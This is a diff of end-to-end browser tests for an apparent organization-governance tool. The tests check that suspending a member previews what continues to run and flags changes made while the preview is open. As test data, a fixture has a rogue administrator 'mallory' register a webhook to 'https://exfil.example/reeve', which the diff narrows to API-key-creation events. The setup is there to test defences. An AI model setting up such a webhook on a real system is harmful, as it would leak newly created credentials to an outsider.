@@ -21,7 +21,7 @@ test('a member is suspended as the preview said, and reactivated', async () => {
     await login.getByRole('listitem').getByText('Unknown browser').waitFor()
     await page.getByRole('region', { name: 'Left to do by hand' }).getByText('GitHub “acme-robots”').waitFor()
     const goesOn = page.getByRole('region', { name: 'What goes on' })
-    await goesOn.getByText('Goes on sending, also this reason').waitFor()
+    await goesOn.getByText('Goes on sending, also this reason.').waitFor()
     await goesOn.getByRole('link', { name: exfil.url }).waitFor()
     const decision = page.getByRole('region', { name: 'For you to decide' })
     await decision.getByText('Runs on with it: Digest').waitFor()
@@ -124,7 +124,7 @@ test('what changes while the preview is open is marked, and waits until it was s
   const acme = await reeve.organization()
   const mallory = await acme.person('administrator')
   const { name } = (await acme.owner.call(`GET /v1/members/${mallory.userId}`)).body
-  const exfil = { url: 'https://exfil.example/reeve', event_types: ['*'] }
+  const exfil = { url: 'https://exfil.example/reeve', event_types: ['api_key.created'] }
   const { id: webhook } = (await mallory.call('POST /v1/governance/webhooks', { body: exfil })).body
   await acme.owner.call('PUT /v1/oracle', { body: { name: 'Pythia', owner_user_id: mallory.userId } })
   await inWindow({ as: acme.owner }, async ({ page, open, context }) => {
@@ -141,6 +141,8 @@ test('what changes while the preview is open is marked, and waits until it was s
     // Without waiting for it: the page may have looked again by itself, and then the button waits already.
     await act.dispatchEvent('click')
     await page.getByRole('alert').getByText('One line has changed').waitFor()
+    const goesOn = page.getByRole('region', { name: 'What goes on' })
+    await goesOn.getByText('Goes on sending.', { exact: true }).waitFor()
     await page.getByRole('listitem').filter({ hasText: '1 trigger' }).getByText('Changed').waitFor()
     assert.equal((await acme.owner.call(`GET /v1/members/${mallory.userId}`)).body.status, 'active')
 
